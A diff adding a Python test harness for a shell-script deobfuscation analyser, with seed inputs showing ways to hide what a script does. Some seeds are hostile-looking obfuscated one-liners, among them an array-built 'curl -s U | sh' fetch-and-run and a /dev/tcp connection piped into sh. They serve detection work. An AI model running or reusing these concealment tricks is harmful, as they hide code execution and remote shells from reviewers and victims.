@@ -1,0 +1,49 @@
+"""Any text as a script of a shell: plain statements at its lines, or the word that some were left out."""
+
+from collections.abc import Iterable
+
+from ostiary.program.shell.state import MAX_SAID
+from ostiary.program.shell.unfolding import unfolded
+
+SEEDS = (
+    b'a=(c u "r l"); a+=(x); for i in "${a[@]}"; do x=$x${i:0:1}; done; $x -s U | sh\n',
+    b'f() { local y=$1; shift; echo "$@" | rev; }; eval "$(f a \'b c\')"\n',
+    b"while read -r x y; do printf '%s\\n' \"${x%.*}${y//a/b}\"; done < <(echo YQ== | base64 -d)\n",
+    b"cat > /tmp/a <<E\necho $HOME ${x:-y}\nE\nsh /tmp/a; . /tmp/a\nbash <<'E'\nid\nE\n",
+    b"for ((i=0; i<3; i++)); do r+=$((i*2+0x1)); done; x=y; echo ${!x} ${#r} $r | tr a-z n-za-m\n",
+    b"case $1 in a) x=b;; *) x=c;; esac; if true; then x=d; elif id; then x=e; else x=f; fi; $x\n",
+    b"trap 'id' EXIT; alias g='id -u'; g; printf -v v '\\x%s' 69 64; xargs -I{} sh -c {} <<< id\n",
+    b"env -i timeout 9 sh -c \"$'\\x69d'\" & {a,b}/c; exec 3<>/dev/tcp/a/1; cat <&3 | (sh) || /b?n/i*\n",
+    b"sed 's/a/b/g;s#c#d#' <<< abc | cut -d: -f1,3- | head -c 2 | xxd -r -p | gunzip | tail -n +2\n",
+)
+
+SHELL = tuple(
+    b"""
+$x  ${x}  "$x"  '$x'  ${x:1:2}  ${x/a/b}  ${x//a}  ${x%%.*}  ${x##*/}  ${x^^}  ${!x}  ${#x}  ${x:-y}
+$(  )  `  "  '  $'\\x61'  $((  ))  |  ||  &&  ;  &  <<E  E  <<<  < <(  > /tmp/a  >> /tmp/a  2>&1
+x=  x+=  x=(a  a[0]=  "${a[@]}"  ${a[*]}  eval  sh -c  bash  source  .  read x  xargs  printf  echo
+echo -e  base64 -d  rev  tr a-z b-y  cut -c1-2  sed s/a/b/  head -c 3  seq 9  for x in  do  done
+while  until  if  then  else  fi  case  in  esac  ;;  f() {  }  (  {  set --  $@  $1  $#  shift
+local  export  alias  trap  IFS=,  \\  \n  ~  *  ?  [a]  {a,b}  {  }  !  #  %  /  :  =  +  -  @
+""".replace(b"\n", b"  ").split(b"  ")[1:]
+)
+
+
+def shells(data: bytes) -> Iterable[str]:
+    """Statements at lines of the script, no more of them than may be, and the same each time."""
+    found = unfolded(data)
+    lines = data.count(b"\n")
+    assert all(0 <= row <= lines for row, _ in found.statements), "a line at another place"
+    assert sum(len(text) for _, text in found.statements) <= MAX_SAID, "more than is kept"
+    assert found == unfolded(data), "not the same twice"
+    found.text().encode("utf-8", "surrogateescape")
+    heads = {text.split(" ", 1)[0][:12] for _, text in found.statements}
+    return {
+        f"shell: {len(found.statements).bit_length()} bits, {found.cut}, {found.long}",
+        *(f"shell: {one}" for one in heads),
+    }
+
+
+def shell_seeds() -> list[bytes]:
+    """One of each way to hide what a script does."""
+    return list(SEEDS)
